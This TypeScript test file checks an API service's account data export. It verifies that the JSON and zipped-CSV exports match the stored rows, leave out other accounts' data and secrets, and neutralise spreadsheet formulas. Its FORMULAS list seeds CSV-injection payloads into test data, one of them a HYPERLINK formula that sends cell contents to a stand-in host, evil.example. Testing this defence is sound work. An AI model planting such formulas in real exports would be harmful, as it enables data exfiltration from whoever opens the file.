import { env } from "cloudflare:workers";
import { eq, getTableColumns } from "drizzle-orm";
import type { SQLiteTable } from "drizzle-orm/sqlite-core";
import { unzipSync } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import { recordConsent } from "../src/db/accounts";
import { billingReceipts, creditLedger, usageLedger } from "../src/db/billing-schema";
import { billingDb, coreDb, logsDb } from "../src/db/client";
import { requestLogs } from "../src/db/logs-schema";
import { agreements, apiKeys, auditLog, billingAccounts, consents, consoleSessions, passkeys } from "../src/db/schema";
import { exportDatasets, NOT_EXPORTED } from "../src/self-service/export/datasets";
import { privacyMap } from "../src/router/privacy-map";
import { startSessionRow } from "../src/console/auth/session";
import { csvField } from "../src/self-service/export/csv";
import { csvObjects } from "./helpers/csv";
import { logRow, seedCredits, seedLedger, seedLogs, seedReceipts } from "./helpers/export-seed";
import { admin, call, errorOf, newCustomer, type Customer } from "./helpers/router";

type Row = Record<string, unknown>;
const DATASETS = ["keys", "consents", "agreements", "audit_log", "console_sessions", "passkeys", "request_logs", "billing_ledger", "billing_receipts", "billing_account", "credit_ledger"] as const;
type DatasetName = (typeof DATASETS)[number];
type ExportDoc = { object: string; generated_at: string; account: Row } & Record<DatasetName, Row[]>;

const bearer = (key: string) => ({ authorization: `Bearer ${key}` });
const exportOf = (key: string, format: "json" | "csv") => call(`/v1/account/export?format=${format}`, { headers: bearer(key) });
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB"];

let a: Customer;
let b: Customer;

beforeAll(async () => {
  // No credit grant: it would wait in the limiter object, which these tests
  // do not read, while the export shows it (test/export-billing.test.ts).
  a = await newCustomer({ credits: 0 });
  b = await newCustomer({ credits: 0 });
  for (const c of [a, b]) {
    // Consent history of both kinds, with a withdrawal, through the API and the store.
    await call("/v1/account/consent", { method: "PUT", headers: { ...bearer(c.key), "content-type": "application/json" }, body: JSON.stringify({ non_eu_transfer: false }) });
    await recordConsent(coreDb(env.DB), c.accountId, "product_updates", true, `key:${c.keyId}`);
    const key = await admin("POST", `/accounts/${c.accountId}/keys`, { name: FORMULAS[0], scopes: ["inference"], limits: { rpm: 5 } });
    expect(key.status).toBe(201);
    await seedLogs([
      ...Array.from({ length: 40 }, (_, i) => logRow(c.accountId, i)),
      ...FORMULAS.map((ua, i) => logRow(c.accountId, 100 + i, { userAgent: ua, errorCode: "x,\"y\"\r\nz" })),
    ]);
    await seedLedger(c.accountId, 7);
    await seedReceipts(c.accountId, 9);
    await seedCredits(c.accountId, 6);
    await coreDb(env.DB).insert(billingAccounts).values({ accountId: c.accountId, stripeCustomerId: `cus_${c.accountId.slice(-10)}`, subscriptionState: "active", currentPeriodEnd: Date.now() + 1e9, lowBalanceThresholdNano: 2_000_000_000 });
    await seedConsole(c.accountId);
  }
});

/** What the console stores about an account: its sign-up's acceptances, a session, a passkey. */
async function seedConsole(accountId: string) {
  const core = coreDb(env.DB);
  const now = Date.now();
  await core.insert(agreements).values([
    { id: `agr_${crypto.randomUUID()}`, accountId, document: "privacy_policy", version: "2026-01-01", acceptedAt: now - 2, source: "console" },
    { id: `agr_${crypto.randomUUID()}`, accountId, document: "age_18_plus", version: "2026-01-01", acceptedAt: now - 1, source: "console" },
  ]);
  await startSessionRow(env, accountId, "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0");
  const credential = crypto.randomUUID();
  await core.insert(passkeys).values({ id: `cred-${credential}`, accountId, publicKey: `pk-${credential}`, counter: 7, transports: ["usb", "nfc"], name: "Laptop", createdAt: now, lastUsedAt: null });
}

/** Every row each database holds for the account, read here directly, by dataset name. */
async function stored(accountId: string) {
  const core = coreDb(env.DB);
  const logs = logsDb(env.LOGS_DB);
  const billing = billingDb(env.BILLING_DB);
  return {
    keys: await core.select().from(apiKeys).where(eq(apiKeys.accountId, accountId)),
    consents: await core.select().from(consents).where(eq(consents.accountId, accountId)),
    agreements: await core.select().from(agreements).where(eq(agreements.accountId, accountId)),
    audit_log: await core.select().from(auditLog).where(eq(auditLog.accountId, accountId)),
    console_sessions: await core.select().from(consoleSessions).where(eq(consoleSessions.accountId, accountId)),
    passkeys: await core.select().from(passkeys).where(eq(passkeys.accountId, accountId)),
    request_logs: await logs.select().from(requestLogs).where(eq(requestLogs.accountId, accountId)),
    billing_ledger: await billing.select().from(usageLedger).where(eq(usageLedger.accountId, accountId)),
    billing_receipts: await billing.select().from(billingReceipts).where(eq(billingReceipts.accountId, accountId)),
    billing_account: await core.select().from(billingAccounts).where(eq(billingAccounts.accountId, accountId)),
    credit_ledger: await billing.select().from(creditLedger).where(eq(creditLedger.accountId, accountId)),
  };
}

/**
 * A stored row as the export must show it: every column under its SQL name
 * but the account id and the provider cost (the operator's margin), `_at`
 * columns in ISO 8601.
 */
function expectedRow(table: SQLiteTable, row: Row): Row {
  const out: Row = {};
  for (const [prop, column] of Object.entries(getTableColumns(table))) {
    if (column.name === "account_id" || column.name === "provider_cost_nano_usd") continue;
    const value = row[prop];
    out[column.name] = column.name.endsWith("_at") && typeof value === "number" ? new Date(value).toISOString() : value;
  }
  return out;
}

const TABLES = { consents, agreements, audit_log: auditLog, request_logs: requestLogs, billing_ledger: usageLedger, billing_receipts: billingReceipts, credit_ledger: creditLedger } as const;
function idOf(name: string, row: Row): string {
  if (name === "billing_ledger") return `${String(row.day)}|${String(row.model)}`;
  if (name === "billing_account") return String(row.stripe_customer_id);
  // Exported without their stored ids (authentication material): told apart by what they show.
  if (name === "console_sessions") return `${String(row.device)}|${String(row.created_at)}`;
  if (name === "passkeys") return `${String(row.name)}|${String(row.created_at)}`;
  return String(row.id ?? row.request_id ?? row.entry_id);
}

/** The JSON export and the databases hold the same rows, value for value. */
async function expectJsonMatchesDatabases(doc: ExportDoc, accountId: string) {
  const db = await stored(accountId);
  for (const [name, table] of Object.entries(TABLES)) {
    const exported = doc[name as DatasetName];
    const rows = db[name as DatasetName] as Row[];
    expect(exported.map((r) => idOf(name, r)).sort(), name).toEqual(rows.map((r) => idOf(name, expectedRow(table, r))).sort());
    const byId = new Map(exported.map((r) => [idOf(name, r), r]));
    for (const row of rows) {
      const want = expectedRow(table, row);
      expect(byId.get(idOf(name, want)), `${name} ${idOf(name, want)}`).toMatchObject(want);
    }
  }
  expect(doc.keys.map((k) => k.id).sort()).toEqual(db.keys.map((k) => k.id).sort());
  for (const key of db.keys) {
    const exported = doc.keys.find((k) => k.id === key.id)!;
    expect(exported).toMatchObject({ name: key.name, prefix: key.prefix, status: key.status, scopes: key.scopes, limits: { rpm: key.rpmLimit } });
  }
  const iso = (ms: number | null) => (ms === null ? null : new Date(ms).toISOString());
  expect(doc.console_sessions).toEqual(
    db.console_sessions.map((s) => ({ device: s.device, created_at: iso(s.createdAt), last_seen_at: iso(s.lastSeenAt), expires_at: iso(s.expiresAt) })),
  );
  expect(doc.passkeys).toEqual(db.passkeys.map((p) => ({ name: p.name, created_at: iso(p.createdAt), last_used_at: iso(p.lastUsedAt), transports: p.transports })));
}

it("exports every category of the privacy map held in the core database, or says why not", () => {
  const exported = new Set(["account", ...exportDatasets(env, "acct_none", [], 1).map((d) => d.name)]);
  // The map's names for the two the export calls otherwise.
  const datasetOf: Record<string, string> = { account_profile: "account", api_keys: "keys" };
  const core = privacyMap(env).categories.filter((c) => c.store.name === "emby-core" && c.held);
  expect(core.length).toBeGreaterThan(5);
  for (const category of core) {
    const name = datasetOf[category.id] ?? category.id;
    expect(exported.has(name) || category.id in NOT_EXPORTED, `${category.id}: exported or listed in NOT_EXPORTED`).toBe(true);
    expect(exported.has(name) && category.id in NOT_EXPORTED, `${category.id}: both exported and excluded`).toBe(false);
  }
  expect(exportDatasets(env, "acct_none", [], 1).map((d) => d.name)).toEqual(DATASETS);
});

describe("GET /v1/account/export?format=json", () => {
  it("holds every row the three databases hold for the account, and nothing of another account", async () => {
    const res = await exportOf(a.key, "json");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(res.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="emby-export-${a.accountId}-\\d{4}-\\d{2}-\\d{2}\\.json"$`));
    const text = await res.text();
    const doc = JSON.parse(text) as ExportDoc;
    expect(doc).toMatchObject({ object: "account_export", account: { id: a.accountId, object: "account", email: expect.stringContaining("@example.com") } });
    expect(Date.parse(doc.generated_at)).not.toBeNaN();
    await expectJsonMatchesDatabases(doc, a.accountId);
    // Both consent kinds, with the whole history (grant, withdrawal).
    expect(doc.consents.map((r) => `${String(r.kind)}:${String(r.granted)}`)).toEqual(["non_eu_transfer:true", "non_eu_transfer:false", "product_updates:true"]);
    // The export audits itself before it reads the log.
    expect(doc.audit_log.at(-1)).toMatchObject({ action: "account.export", actor: `key:${a.keyId}`, details: { format: "json" } });
    expect(doc.request_logs).toHaveLength(45);
    expect(doc.billing_ledger).toHaveLength(7);
    expect(doc.billing_receipts).toHaveLength(9);

    expect(text).not.toContain(b.accountId);
    const own = await stored(a.accountId);
    for (const key of own.keys) expect(text).not.toContain(key.keyHash);
    for (const session of own.console_sessions) expect(text).not.toContain(session.idHash);
    for (const passkey of own.passkeys) for (const secret of [passkey.id, passkey.publicKey]) expect(text).not.toContain(secret);
    expect(doc.agreements).toHaveLength(2);
    expect(doc.console_sessions).toEqual([expect.objectContaining({ device: expect.stringContaining("Firefox") })]);
    for (const row of (await stored(b.accountId)).request_logs) expect(text).not.toContain(row.requestId);
  });

  it("defaults to JSON and refuses an unknown format or parameter", async () => {
    const res = await call("/v1/account/export", { headers: bearer(a.key) });
    expect(res.headers.get("content-type")).toBe("application/json; charset=utf-8");
    await res.body?.cancel();
    const xml = await call("/v1/account/export?format=xml", { headers: bearer(a.key) });
    expect(xml.status).toBe(400);
    expect(await errorOf(xml)).toMatchObject({ param: "format" });
    const extra = await call("/v1/account/export?format=csv&since=1", { headers: bearer(a.key) });
    expect((await errorOf(extra)).code).toBe("unknown_parameter");
  });

  it("refuses an inference-only key with 403", async () => {
    const inference = await newCustomer({ key: { scopes: ["inference"] }, consent: false });
    for (const format of ["json", "csv"] as const) {
      const res = await exportOf(inference.key, format);
      expect(res.status).toBe(403);
    }
  });
});

/** The cell the CSV must hold for a JSON value (this test's reading of docs/export.md). */
function cellFor(value: unknown): string {
  if (value === null || value === undefined) return "";
  if (typeof value !== "string") return typeof value === "object" ? JSON.stringify(value) : String(value);
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

const leafAt = (row: Row, path: string) => path.split(".").reduce<unknown>((v, p) => (v && typeof v === "object" ? (v as Row)[p] : undefined), row);

describe("GET /v1/account/export?format=csv", () => {
  it("is a zip with one CSV per dataset holding the same rows as the JSON, every field a column", async () => {
    const doc = (await (await exportOf(a.key, "json")).json()) as ExportDoc;
    const res = await exportOf(a.key, "csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/zip");
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="emby-export-acct_[0-9a-f]+-\d{4}-\d{2}-\d{2}\.zip"$/);
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const names = ["account", ...DATASETS] as const;
    expect(Object.keys(files).sort()).toEqual(names.map((n) => `${n}.csv`).sort());
    const decoder = new TextDecoder();
    // The CSV export's audit log has one entry more: its own export.
    const db = await stored(a.accountId);

    for (const name of names) {
      const text = decoder.decode(files[`${name}.csv`]);
      expect(text).not.toContain(b.accountId);
      const { header, rows } = csvObjects(text);
      const jsonRows = name === "account" ? [doc.account] : doc[name];
      if (name !== "account") expect(rows.length, name).toBe(db[name].length);
      for (const jsonRow of jsonRows) {
        for (const key of Object.keys(jsonRow)) {
          if (key === "object" || key === "account_id") continue;
          expect(header.some((h) => h === key || h.startsWith(`${key}.`)), `${name}.${key} is a column`).toBe(true);
        }
        const id = name === "account" ? undefined : idOf(name, jsonRow);
        const csvRow = name === "account" ? rows[0]! : rows.find((r) => idOf(name, r) === id);
        expect(csvRow, `${name} ${id}`).toBeDefined();
        for (const column of header) expect(csvRow![column], `${name} ${id} ${column}`).toBe(cellFor(leafAt(jsonRow, column)));
      }
    }
  });

  it("makes cells that start like a formula inert, and keeps the JSON exact", async () => {
    const files = unzipSync(new Uint8Array(await (await exportOf(a.key, "csv")).arrayBuffer()));
    const logs = csvObjects(new TextDecoder().decode(files["request_logs.csv"])).rows;
    const agents = logs.map((r) => r.user_agent);
    for (const formula of FORMULAS) expect(agents).toContain(`'${formula}`);
    expect(logs.every((r) => !/^[=+\-@\t\r]/.test(r.user_agent!))).toBe(true);
    expect(logs.find((r) => r.user_agent === "'@cmd")!.error_code).toBe("x,\"y\"\r\nz");
    const keys = csvObjects(new TextDecoder().decode(files["keys.csv"])).rows;
    expect(keys.map((k) => k.name)).toContain(`'${FORMULAS[0]}`);
    const doc = (await (await exportOf(a.key, "json")).json()) as ExportDoc;
    expect(doc.keys.map((k) => k.name)).toContain(FORMULAS[0]);
  });
});

describe("csvField", () => {
  it("quotes as RFC 4180 and prefixes formula starts on text only", () => {
    expect(csvField(null)).toBe("");
    expect(csvField("plain")).toBe("plain");
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField("line\r\nbreak")).toBe('"line\r\nbreak"');
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("=A1,B1")).toBe("\"'=A1,B1\"");
    expect(csvField("-1")).toBe("'-1");
    expect(csvField(-1)).toBe("-1");
    expect(csvField(false)).toBe("false");
    expect(csvField(["inference", "manage"])).toBe('"[""inference"",""manage""]"');
  });
});
